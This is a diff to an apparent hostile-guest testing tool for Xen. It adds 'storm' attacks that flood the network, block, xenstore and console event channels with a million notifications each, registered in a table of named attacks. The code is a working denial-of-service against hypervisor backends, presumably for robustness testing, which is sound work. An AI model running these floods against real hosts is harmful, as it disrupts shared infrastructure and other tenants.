@@ -26,6 +26,7 @@
 #define STEP_NS (10 * NSEC_PER_MSEC)
 #define WAIT_STEPS 500
 #define STORE_TRIES 5000U
+#define STORM_SENDS 1000000U
 
 struct victim {
     const char *node;
@@ -283,6 +284,32 @@ static void store_flood(struct victim *v)
            nodes == STORE_TRIES || transactions == STORE_TRIES ? ", no limit found" : "");
 }
 
+/* Storms ----------------------------------------------------------------------------------------- */
+static void storm(evtchn_port_t port)
+{
+    for (unsigned int i = 0; i < STORM_SENDS; i++) {
+        event_send(port);
+    }
+    xenbus_write(XENBUS_NO_TRANSACTION, "data/over", "1", 1);
+}
+
+static void device_storm(struct victim *v)
+{
+    storm((evtchn_port_t)v->port);
+}
+
+static void store_storm(struct victim *v)
+{
+    (void)v;
+    storm(start_info_page->store_evtchn);
+}
+
+static void console_storm(struct victim *v)
+{
+    (void)v;
+    storm(start_info_page->console.domU.evtchn);
+}
+
 static const struct attack {
     const char *name;
     const char *node;
@@ -306,6 +333,10 @@ static const struct attack {
     {"blk-indirect",  "device/vbd/51712", blk_indirect  },
     {"blk-store",     "device/vbd/51712", store_nonsense},
     {"store-flood",   NULL,               store_flood   },
+    {"net-storm",     "device/vif/0",     device_storm  },
+    {"blk-storm",     "device/vbd/51712", device_storm  },
+    {"store-storm",   NULL,               store_storm   },
+    {"console-storm", NULL,               console_storm },
 };
 
 int main(void)
